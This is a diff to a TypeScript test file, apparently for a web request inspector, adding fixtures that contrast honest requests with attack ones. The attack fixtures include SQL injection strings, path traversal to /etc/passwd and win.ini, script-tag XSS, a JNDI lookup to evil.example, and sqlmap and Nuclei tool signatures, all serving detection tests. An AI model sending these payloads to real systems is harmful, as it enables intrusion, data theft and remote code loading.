@@ -25,6 +25,12 @@ const logged = (stringValue: string): unknown => ({
   resourceLogs: [{ scopeLogs: [{ logRecords: [{ attributes: [{ value: { stringValue } }] }] }] }],
 })
 
+const from = (page: string, name = 'Referer'): InspectedRequest => ({
+  method: 'GET',
+  target: '/style.css',
+  headers: [name, page],
+})
+
 const mail = (html: string): InspectedRequest => filled({ 'body-html': html })
 
 /** What pages, their reports and their mails send for honest reasons, and what stays an attack beside it. */
@@ -247,6 +253,46 @@ const KINDS: Readonly<
       asked('/s', { q: "' AND email = name ORDER BY 1--" }),
       asked('/rest/v1/orders', { name: "*o'br*))(|(uid=*" }),
       filled({ company: 'Select -1 from users' }),
+    ],
+  },
+  'a page that names itself to its parts': {
+    honest: [
+      from('https://shop.example/search?q=%22annual+report%22+OR+%22year+in+review%22+-draft&page=1'),
+      from('https://shop.example/search?q=%22exact%20phrase%22%20-exclude%20OR%20(this%20AND%20that)'),
+      from('https://shop.example/items?price[$lte]=100&price[$gte]=10'),
+      from('https://jira.example/issues/?jql=text+~+%22a%22+AND+(assignee+in+(me(),+%22o%27b%22)+OR+b=me())'),
+      from('https://shop.example/parts?q=5%2F16%22-18+%26+nuts+(10-pk)&page=1', 'HX-Current-URL'),
+      from('https://shop.example/physics/nuclei/decay?unit=MeV'),
+      from('https://shop.example/search?q=radius+of+atomic+nuclei'),
+      sent({ 'csp-report': { 'document-uri': 'https://x.example/?q=%22a+b%22+OR+%22c+d%22+-e&page=1' } }),
+    ],
+    attacks: [
+      from("https://shop.example/search?q=1'+or+'1'='1"),
+      from('https://shop.example/search?q=1%27+or+%271%27=%271'),
+      from('https://shop.example/search?q=%27%20union%20select%20password%20from%20users--%20'),
+      from('https://shop.example/search?file=../../../../etc/passwd'),
+      from('https://shop.example/%27%20or%20%271%27=%271?q=a'),
+      from('https://shop.example/?q=%24%7Bjndi:ldap://evil.example/a%7D'),
+      from('https://shop.example/?%3Cscript%3Ealert(1)%3C/script%3E'),
+      from('https://shop.example/?a=b&jql=x%27;waitfor+delay+%270:0:5%27--'),
+      from("https://shop.example/?q=%22a%22 ' or '1'='1"),
+      from('https://shop.example/?q=<script>alert(1)</script>', 'HX-Current-URL'),
+      from('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'User-Agent'),
+      from('sqlmap/1.7', 'X-Tool'),
+      asked('/s', { 'document-uri': "' or '1'='1" }),
+      sent({ 'csp-report': { 'document-uri': 'https://x.example/?q=<script>alert(1)</script>' } }),
+    ],
+  },
+  'what a field is named for': {
+    honest: [
+      filled({ formula: '=HYPERLINK("https://x.example/?id="&A2,"open")' }),
+      filled({ share: '\\\\nas01\\team$\\2024' }),
+    ],
+    attacks: [
+      filled({ name: '=HYPERLINK("https://x.example/?id="&A2,"open")' }),
+      filled({ formula: "' or '1'='1" }),
+      filled({ file: '\\\\nas01\\team$\\2024' }),
+      filled({ share: '\\\\nas01\\..\\..\\windows\\win.ini' }),
     ],
   },
   'a mail as a body': {
